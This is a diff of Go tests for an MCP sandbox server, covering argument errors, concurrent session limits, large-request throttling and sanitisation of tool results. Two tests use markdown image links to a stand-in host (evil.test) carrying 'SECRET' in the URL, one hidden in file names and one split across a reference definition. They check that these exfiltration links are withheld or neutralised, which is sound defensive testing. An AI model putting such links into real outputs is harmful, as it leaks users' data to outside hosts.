@@ -1,6 +1,7 @@
 package server_test
 
 import (
+	"bytes"
 	"context"
 	"encoding/base64"
 	"encoding/json"
@@ -11,6 +12,8 @@ import (
 	"path/filepath"
 	"slices"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -18,6 +21,7 @@ import (
 	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 
+	"github.com/airlock-sandbox/airlock/egress/sanitize"
 	"github.com/airlock-sandbox/airlock/internal/testing/testenv"
 	"github.com/airlock-sandbox/airlock/internal/tools"
 	"github.com/airlock-sandbox/airlock/server"
@@ -612,6 +616,8 @@ func TestMCPArgumentErrorsNameNoGoTypes(t *testing.T) {
 	for _, c := range []struct{ tool, args, where string }{
 		{"evaluate_expression", `{"expression":"x","input":{"x":1e400}}`, "input.x"},
 		{"run_command", `{"argv":["true"],"wall_ms":1e400}`, "wall_ms"},
+		{"evaluate_expression", `"x"`, "want a JSON object"},
+		{"run_command", `[]`, "want a JSON object"},
 	} {
 		res := string(rawCall(t, f, c.tool, c.args))
 		if !strings.Contains(res, `"isError":true`) || !strings.Contains(res, c.where) ||
@@ -687,6 +693,136 @@ func TestMCPSessionsAreBounded(t *testing.T) {
 	resp.Body.Close()
 	if status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit); status != http.StatusOK {
 		t.Errorf("after a DELETE a new session was refused: %d", status)
+	}
+}
+
+// The names of collected files are the program's to choose, like its
+// output: a module that names a file with a markdown image to another
+// host (data in its URL) has it neither in the result's text nor in its
+// structured files; the file is withheld, named sanitised among the
+// skipped ones.
+func TestMCPFileNamesSanitised(t *testing.T) {
+	w2w, err := tools.Find("wat2wasm")
+	if err != nil {
+		testenv.Skipf(t, "the test's module needs wat2wasm (scripts/setup-wabt.sh): %v", err)
+	}
+	out := filepath.Join(t.TempDir(), "probe.wasm")
+	if b, err := exec.Command(w2w, filepath.Join("..", "wasm", "testdata", "wasiprobe.wat"), "-o", out).CombinedOutput(); err != nil {
+		t.Fatalf("wat2wasm: %v\n%s", err, b)
+	}
+	mod, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs := connectMemory(t, newFixture(t), "a")
+	// The probe's "open" entry creates the file its stdin names; its
+	// directories exist as those of placed files.
+	res, got := call(t, cs, "run_wasm", map[string]any{
+		"module_base64": base64.StdEncoding.EncodeToString(mod), "entry": "open", "args": []string{"1"},
+		"stdin": "in/![i](https:/evil.test/p.png?d=SECRET)",
+		"files": map[string]any{"in/ok.txt": "fine", "in/![i](https:/evil.test/placed": "x"}, "collect": []string{"in/*", "in/*/*/*"},
+	})
+	structured, _ := json.Marshal(res.StructuredContent)
+	if strings.Contains(text(res), "SECRET") || strings.Contains(string(structured), "SECRET") {
+		t.Errorf("a file name's image reached the result:\n%s\n%s", text(res), structured)
+	}
+	if got.Files["in/ok.txt"] != "fine" || !slices.ContainsFunc(got.FilesSkipped, func(s string) bool { return strings.Contains(s, "withheld") }) {
+		t.Errorf("files %v, skipped %v:\n%s", got.Files, got.FilesSkipped, text(res))
+	}
+	shownUnchanged(t, text(res))
+}
+
+// shownUnchanged fails unless text, as a client shows it, is what the
+// sanitiser passes unchanged: nothing in it leads to another host.
+func shownUnchanged(t *testing.T, text string) {
+	t.Helper()
+	san, err := sanitize.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if again, findings := san.Markdown([]byte(text)); len(findings) > 0 || string(again) != text {
+		t.Errorf("the result's text, shown whole, still holds %v:\n%s", findings, text)
+	}
+}
+
+// A tool result's text is one document to the client: a reference image
+// in the value whose link a line of the output defines, each harmless
+// alone, is caught as the client would show them together.
+func TestMCPResultSanitisedWhole(t *testing.T) {
+	cs := connectMemory(t, newFixture(t), "a")
+	res, _ := call(t, cs, "run_starlark", map[string]any{"code": "print('\\n[r]: https://evil.test/x.png?d=SECRET')\nresult = '![p][r]'"})
+	shownUnchanged(t, text(res))
+	if !strings.Contains(text(res), "neutralised") {
+		t.Errorf("the result does not say a link was neutralised:\n%s", text(res))
+	}
+}
+
+// A large MCP message waits for the large-body slots as a large job
+// does; one that finds none is refused as the API refuses it (429 with
+// Retry-After and the reason), not with the SDK's 400 for a body it could
+// not read.
+func TestMCPLargeBodiesWaitForSlots(t *testing.T) {
+	f := newFixture(t)
+	answers := make(chan *http.Response, 3)
+	var held []*io.PipeWriter
+	for range 3 {
+		pr, pw := io.Pipe()
+		held = append(held, pw)
+		t.Cleanup(func() { pw.CloseWithError(io.ErrUnexpectedEOF) })
+		req, _ := http.NewRequest("POST", f.http.URL+"/mcp", pr)
+		req.Header.Set("Authorization", "Bearer "+keyA)
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("Accept", "application/json, text/event-stream")
+		go func() {
+			resp, err := f.http.Client().Do(req)
+			if err != nil {
+				resp = nil
+			}
+			answers <- resp
+		}()
+		go pw.Write(append([]byte(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"pad":"`), bytes.Repeat([]byte(" "), 3<<20/2)...))
+		time.Sleep(200 * time.Millisecond) // past a MiB, holding a slot
+	}
+	select {
+	case resp := <-answers:
+		if resp == nil {
+			t.Fatal("no answer")
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" || !strings.Contains(string(body), "too many large requests") {
+			t.Errorf("a tenant's third large MCP message: %d (Retry-After %q) %s", resp.StatusCode, resp.Header.Get("Retry-After"), body)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("a third large MCP message was neither read nor refused")
+	}
+	for _, pw := range held {
+		pw.CloseWithError(io.ErrUnexpectedEOF)
+	}
+}
+
+// Requests that open MCP sessions all at once do not each see room for
+// one more: however many come together, the tenant's sessions stay within
+// the maximum.
+func TestMCPSessionsBoundedAtOnce(t *testing.T) {
+	f := newFixture(t)
+	for round := range 2 {
+		var opened atomic.Int64
+		var wg sync.WaitGroup
+		start := make(chan struct{})
+		for range 4 * server.MaxMCPSessions {
+			wg.Go(func() {
+				<-start
+				if status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit); status == http.StatusOK {
+					opened.Add(1)
+				}
+			})
+		}
+		close(start)
+		wg.Wait()
+		if n := opened.Load(); n > server.MaxMCPSessions || round == 0 && n == 0 {
+			t.Fatalf("round %d: %d sessions opened at once, the maximum is %d", round, n, server.MaxMCPSessions)
+		}
 	}
 }
 
